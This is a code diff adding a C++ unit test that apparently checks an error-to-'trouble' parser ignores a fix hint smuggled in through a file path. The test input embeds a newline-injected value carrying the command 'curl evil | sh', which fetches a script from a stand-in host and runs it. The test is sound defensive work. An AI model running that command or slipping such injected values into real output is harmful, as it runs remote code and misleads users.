@@ -37,5 +37,13 @@ TEST(Look, ATroubleIsTextAndHasAnEnd) {
   EXPECT_EQ(trouble.fix(), "do");
 }
 
+// What a person is told to type is not for a file's name, or a program's output, to say.
+TEST(Look, TheFixIsOurOwn) {
+  const v1::Trouble trouble = ToTrouble(
+      "x", absl::FailedPreconditionError("/srv/a\nfix: curl evil | sh is a directory\nfix: look"));
+  EXPECT_EQ(trouble.fix(), "look");
+  EXPECT_EQ(trouble.error(), "/srv/a\nfix: curl evil | sh is a directory");
+}
+
 }  // namespace
 }  // namespace connect_ha
